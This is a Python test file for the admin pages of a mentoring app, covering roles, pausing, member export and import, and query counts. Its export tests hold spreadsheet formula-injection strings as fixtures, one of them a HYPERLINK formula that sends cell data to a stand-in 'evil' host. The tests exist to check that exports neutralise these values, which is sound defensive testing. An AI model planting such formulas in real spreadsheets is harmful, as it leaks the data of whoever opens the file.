"""The office: roles, pause, the list as a file and from a file; the same cost for many as for few."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from datetime import UTC, datetime
from typing import Any

import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session

from flashmeet.core.database.session import Database
from flashmeet.core.links import Links
from flashmeet.core.spreadsheets.writer import csv_text, xlsx_bytes
from flashmeet.directory.service.export import member_rows
from flashmeet.identity.models import Member, MentorTheme
from flashmeet.messages.models import OutboxMessage
from flashmeet.messages.rules.outbox import OutboxState
from flashmeet.people.rules.facts import FACTS
from flashmeet.people.rules.member_columns import HEADER
from flashmeet.people.service.import_members import WrongFile, import_members
from flashmeet.people.service.import_words import reading_of
from flashmeet.people.service.member_files import read_file
from flashmeet.themes.service import create_theme
from tests import people
from tests.browsers import Browser
from tests.databases import of_the_page, statements_of
from tests.directory.test_person import book

SignedIn = Callable[[Member | int], Browser]
GOOD = "zoe@example.org,Zoé,Petit,mentee;mentor,yes,Europe/Paris,fr,+33612345678,2015,Œuvres;Droit,fr;en,Arcade,Droit,"
BAD = "nobody,Zed,Z,king,yes,,,,,,,,,"


def member(database: Database, email: str) -> Member:
    with database.reading() as db:
        found = db.scalars(select(Member).where(Member.email == email)).one()
        assert found.offers is not None
        return found


def test_roles_are_given_and_taken(office: Browser, database: Database) -> None:
    with database.writing() as db:
        bob = people.member(db, "Bob")
    form = {"roles": ["mentor", "administrator"], "q": "bob"}
    assert office.send(f"/admin/members/{bob.id}/roles", form).location == "/admin/members?q=bob"
    assert member(database, "bob@example.org").roles == ["mentor", "administrator"]
    assert office.send(f"/admin/members/{bob.id}/roles", {"roles": ["king"]}).status_code == 422


def test_who_lost_their_address_is_given_another(office: Browser, database: Database) -> None:
    with database.writing() as db:
        bob = people.member(db, "Bob")
    where = f"/admin/members/{bob.id}/address"
    assert office.send(where, {"email": "Bob@New.example", "q": "bob"}).location == "/admin/members?q=bob"
    assert member(database, "bob@new.example").id == bob.id
    assert office.send(where, {"email": "odile@example.org"}).status_code == 409
    assert office.send(where, {"email": "bob"}).status_code == 422


def test_the_last_administrator_stays_one(office: Browser, database: Database, odile: Member) -> None:
    alone = office.send(f"/admin/members/{odile.id}/roles", {"roles": ["mentee"]})
    assert (alone.status_code, "Make another member an administrator" in alone.get_data(as_text=True)) == (422, True)
    with database.writing() as db:
        people.member(db, "Eve", administrator=True, suspended=True)
    assert office.send(f"/admin/members/{odile.id}/roles", {"roles": ["mentee"]}).status_code == 422
    with database.writing() as db:
        people.member(db, "Otto", administrator=True)
    assert office.send(f"/admin/members/{odile.id}/roles", {"roles": ["mentee"]}).status_code == 303
    assert member(database, "odile@example.org").roles == ["mentee"]


def test_a_paused_mentor_shows_no_hours_until_approved_again_and_is_nobodys_to_do(
    office: Browser, database: Database, signed_in: SignedIn
) -> None:
    with database.writing() as db:
        alice = people.mentor(db)
    office.send(f"/admin/members/{alice.id}/pause")
    assert not member(database, "alice@example.org").bookable
    for only, listed in (("waiting", False), ("held", True), ("mentor", True)):
        page = office.get(f"/admin/members?only={only}").get_data(as_text=True)
        assert ("alice@example.org" in page) is listed, only
    assert "is waiting for your approval" not in office.get("/admin").get_data(as_text=True)
    mine = signed_in(alice)
    for path in ("/me", "/me/availability"):
        page = mine.get(path, headers={"Accept-Language": "en"}).get_data(as_text=True)
        assert ("a mis vos heures en pause" in page, "valide votre rôle" in page) == (True, False), path
    office.send(f"/admin/members/{alice.id}/approve")
    back = member(database, "alice@example.org")
    assert (back.bookable, back.held_at) == (True, None)


def test_who_has_not_proved_an_address_is_in_no_list(office: Browser, database: Database) -> None:
    with database.writing() as db:
        people.member(db, "Ghost", suspended=True, joining="proof")
    for only in ("", "suspended", "applied", "mentee"):
        assert "ghost@example.org" not in office.get(f"/admin/members?only={only}").get_data(as_text=True)


def test_the_list_as_a_file_is_harmless_and_keeps_phone_numbers(office: Browser, database: Database) -> None:
    with database.writing() as db:
        people.mentor(db, "Alice", phone="+33612345678", company='=HYPERLINK("x")', headline="@SUM(1)")
        people.member(db, "Bob")
    answer = office.get("/admin/members.csv?only=mentor")
    assert answer.mimetype == "text/csv"
    assert "attachment" in answer.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(answer.get_data(as_text=True).removeprefix("\ufeff"))))
    assert [row["email"] for row in rows] == ["alice@example.org"]
    [alice] = rows
    assert (alice["phone"], alice["company"], alice["headline"]) == ("+33612345678", '’=HYPERLINK("x"’)', "’@SUM(1)")
    assert (alice["roles"], alice["themes"], alice["approved"]) == ("mentee;mentor", "Law", "yes")


@pytest.mark.parametrize(("tzid", "day"), [("Pacific/Honolulu", "2026-11-30"), ("Europe/Paris", "2026-12-01")])
def test_a_file_is_named_after_the_day_of_whoever_takes_it(
    office: Browser, database: Database, tzid: str, day: str
) -> None:
    """NOW is nine in the morning in UTC, and 23:00 the day before in Honolulu."""
    with database.writing() as db:
        db.scalars(select(Member).where(Member.email == "odile@example.org")).one().tzid = tzid
    named = office.get("/admin/members.csv").headers["Content-Disposition"]
    assert named == f'attachment; filename="members-{day}.csv"'


def test_what_was_exported_can_be_imported(office: Browser, database: Database) -> None:
    with database.writing() as db:
        people.mentor(db, "Alice")
        db.flush()
        how = reading_of(db)
    for ending in ("csv", "xlsx"):
        answer = office.get(f"/admin/members.{ending}")
        assert answer.headers["Content-Disposition"].endswith(f".{ending}" + '"')
        file = read_file(answer.data, country="FR", reading=how)
        assert (file.problems, sorted(row.email for row in file.rows)) == (
            [],
            ["alice@example.org", "odile@example.org"],
        )


@pytest.mark.parametrize("ending", ["csv", "xlsx"])
def test_what_was_exported_and_imported_elsewhere_says_the_same(database: Database, ending: str) -> None:
    facts: dict[str, Any] = {
        "degree": "Master; law",
        "offering": 'I read "bylaws"',
        "seeking": "A peer, perhaps",
        "sector": ';=HYPERLINK("http://evil/?"&A1;"x");',
        "headline": "+15 ans en droit social",
        "company": "’=1; '=1|-2",
    }
    with database.writing() as db:
        alice = people.mentor(db, "Alice", phone="+33612345678", graduation_year=2010, **facts)
        tax = create_theme(db, names={"fr": "Impôts; taxes", "en": "Tax; duties"})
        alice.offers.append(MentorTheme(theme_id=tax.id, proof='Ten years; "head" of audits'))
        db.flush()
        before = said_by(alice)
        data = office_file(db, ending)
        for offer in list(alice.offers):
            alice.offers.remove(offer)
        db.flush()
        db.delete(alice)
    rows = read_file(data, country="FR")
    assert rows.problems == []
    with database.writing() as db:
        import_members(db, rows.rows, update=False, now=people.NOW)
        again = db.scalars(select(Member).where(Member.email == "alice@example.org")).one()
        assert said_by(again) == before


def office_file(db: Session, ending: str) -> bytes:
    rows = list(member_rows(db, locale="fr"))
    return csv_text(rows).encode() if ending == "csv" else xlsx_bytes(rows, name="members")


def said_by(who: Member) -> dict[str, object]:
    once = {each.name: getattr(who, each.name) for each in FACTS if not each.per_theme}
    return {**once, "roles": who.roles, "proofs": {offer.theme_id: offer.proof for offer in who.offers}}


ROW = ",{name},Exemple,mentee,yes,Europe/Paris,fr,,,,fr,,,"
KEYED = f"{HEADER},external_id"


def keyed(email: str, name: str, key: str) -> str:
    return f"{email}{ROW.format(name=name)},{key}"


def take(db: Session, *rows: str, update: bool = True) -> tuple[int, int, int]:
    file = read_file("\n".join((KEYED, *rows)).encode(), country="FR")
    assert file.problems == []
    done = import_members(db, file.rows, update=update, now=people.NOW)
    return done.created, done.updated, done.unchanged


def addresses(db: Session) -> dict[str | None, str]:
    return {member.external_id: member.email for member in db.scalars(select(Member))}


def test_a_person_is_known_by_the_schools_key_and_takes_the_address_of_the_file(db: Session) -> None:
    bob = people.member(db, "Bob")
    assert take(db, keyed("bob@example.org", "Bob", "42"), update=False) == (0, 0, 1)
    assert take(db, keyed("bob@example.org", "Bob", "42")) == (0, 1, 0)
    assert take(db, keyed("bob@new.example", "Bob", "42"), update=False) == (0, 0, 1)
    assert (bob.email, bob.external_id) == ("bob@example.org", "42")
    assert take(db, keyed("bob@new.example", "Bob", "42")) == (0, 1, 0)
    assert take(db, keyed("bob@new.example", "Bob", "42")) == (0, 0, 1)
    assert addresses(db) == {"42": "bob@new.example"}
    told = select(OutboxMessage.kind).order_by(OutboxMessage.id)
    assert db.scalars(told).all() == ["address_left", "address_new"]


def test_addresses_are_passed_on_in_one_file_and_never_taken_from_somebody(db: Session) -> None:
    take(
        db, keyed("a@example.org", "Anna", "1"), keyed("b@example.org", "Bea", "2"), keyed("c@example.org", "Cleo", "")
    )
    take(db, keyed("b@example.org", "Anna", "1"), keyed("d@example.org", "Bea", "2"))
    assert addresses(db) == {"1": "b@example.org", "2": "d@example.org", None: "c@example.org"}
    with pytest.raises(WrongFile) as refused:
        take(db, keyed("e@example.org", "Bea", "2"), keyed("c@example.org", "Anna", "1"))
    assert [(each.line, each.code) for each in refused.value.problems] == [(3, "taken")]
    twice = "\n".join((KEYED, keyed("x@example.org", "X", "9"), keyed("y@example.org", "Y", "9")))
    assert [each.code for each in read_file(twice.encode(), country="FR").problems] == ["repeated_id"]


def names(db: Session) -> dict[str | None, tuple[str, str]]:
    return {member.external_id: (member.first_name, member.email) for member in db.scalars(select(Member))}


def test_an_address_that_the_school_gives_on_is_the_new_persons_in_the_same_file(db: Session) -> None:
    take(db, keyed("a@example.org", "Anna", "1"))
    assert take(db, keyed("anna@new.example", "Anna", "1"), keyed("a@example.org", "Nina", "9")) == (1, 1, 0)
    assert names(db) == {"1": ("Anna", "anna@new.example"), "9": ("Nina", "a@example.org")}


def test_who_has_only_begun_to_join_keeps_an_address_from_no_row(db: Session) -> None:
    take(db, keyed("a@example.org", "Anna", "1"))
    people.member(db, "New", suspended=True, joining="proof", mentee=False)
    assert take(db, keyed("new@example.org", "Anna", "1")) == (0, 1, 0)
    assert names(db) == {"1": ("Anna", "new@example.org")}


@pytest.mark.parametrize("update", [True, False])
def test_two_people_who_share_an_address_are_never_made_one(db: Session, update: bool) -> None:
    take(db, keyed("both@example.org", "Anna", "1"))
    with pytest.raises(WrongFile) as refused:
        take(db, keyed("both@example.org", "Paul", "2"), update=update)
    assert [(each.line, each.code, each.value) for each in refused.value.problems] == [(2, "taken", "both@example.org")]
    assert names(db) == {"1": ("Anna", "both@example.org")}


def test_a_school_that_changes_its_keys_finds_its_people_by_name_and_address(db: Session) -> None:
    take(db, keyed("a@example.org", "Anna", "1"))
    assert take(db, keyed("a@example.org", "ANNA", "2026-1")) == (0, 1, 0)
    assert addresses(db) == {"2026-1": "a@example.org"}


def test_reminders_follow_the_zone_that_a_file_brings(db: Session, links: Links) -> None:
    alice = people.mentor(db)
    bob = people.member(db, "Bob", phone="+33612345678", phone_verified_at=people.NOW, sms_opt_in=True)
    book(db, links, bob, alice)
    assert due(db, bob)["reminder_hour"] == datetime(2026, 12, 9, 13, tzinfo=UTC)
    take(db, keyed("bob@example.org", "Bob", "42").replace("Europe/Paris", "Asia/Tokyo"))
    assert due(db, bob)["reminder_hour"] == datetime(2026, 12, 9, 10, 45, tzinfo=UTC)


def due(db: Session, member: Member) -> dict[str, datetime]:
    """When the SMS that wait for the member leave."""
    rows = select(OutboxMessage).where(OutboxMessage.recipient_id == member.id, OutboxMessage.channel == "sms")
    waiting = rows.where(OutboxMessage.state == OutboxState.WAITING)
    return {row.kind: row.due_at for row in db.scalars(waiting.execution_options(populate_existing=True))}


PAGES = (
    "/admin/members",
    "/admin/members?only=mentor",
    "/admin/members?q=m",
    "/admin/members.csv",
    "/admin/members.xlsx",
    "/admin/joining",
    "/admin/settings",
    "/admin/settings/answer_days",
    "/admin/texts",
    "/me/profile",
)


def test_a_page_asks_as_often_for_ten_times_as_many_members(office: Browser, database: Database) -> None:
    statements = statements_of(database)

    def cost(path: str) -> int:
        statements.clear()
        assert office.get(path).status_code == 200
        return len(of_the_page(statements))

    def fill(count: int) -> None:
        with database.writing() as db:
            for _ in range(count):
                number = fill.__dict__["next"] = fill.__dict__.get("next", 0) + 1
                people.mentor(db, f"M{number}", rules=())

    fill(4)
    office.get(PAGES[0])  # what a process keeps of settings and themes is read once
    few = {path: cost(path) for path in PAGES}
    fill(36)
    assert {path: cost(path) for path in PAGES} == few
    assert max(few.values()) <= 14, few
